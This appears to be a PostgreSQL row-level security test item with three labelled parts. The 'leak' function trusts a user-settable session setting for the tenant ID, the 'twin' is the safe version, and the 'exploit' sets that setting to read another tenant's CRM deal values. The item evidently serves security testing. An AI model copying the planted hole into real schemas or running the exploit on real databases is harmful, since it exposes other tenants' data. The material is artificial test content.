-- The verified token is asked first; when it is missing, a plain setting is believed that any injected expression can set.
-- object: crm.deal
-- object: ctx.tenant_or_setting()
-- base: third_session
--- leak
CREATE FUNCTION ctx.tenant_or_setting() RETURNS integer LANGUAGE sql STABLE
    AS $$ SELECT COALESCE(NULLIF(current_setting('ctx.tenant', true), '')::integer, ctx.tenant_id()) $$;
ALTER POLICY mine ON crm.deal USING (tenant_id = (SELECT ctx.tenant_or_setting()));
--- twin
CREATE FUNCTION ctx.tenant_or_setting() RETURNS integer LANGUAGE sql STABLE AS $$ SELECT ctx.tenant_id() $$;
ALTER POLICY mine ON crm.deal USING (tenant_id = (SELECT ctx.tenant_or_setting()));
--- exploit
SELECT set_config('ctx.tenant', '2', true);
SELECT worth FROM crm.deal WHERE tenant_id = 2;
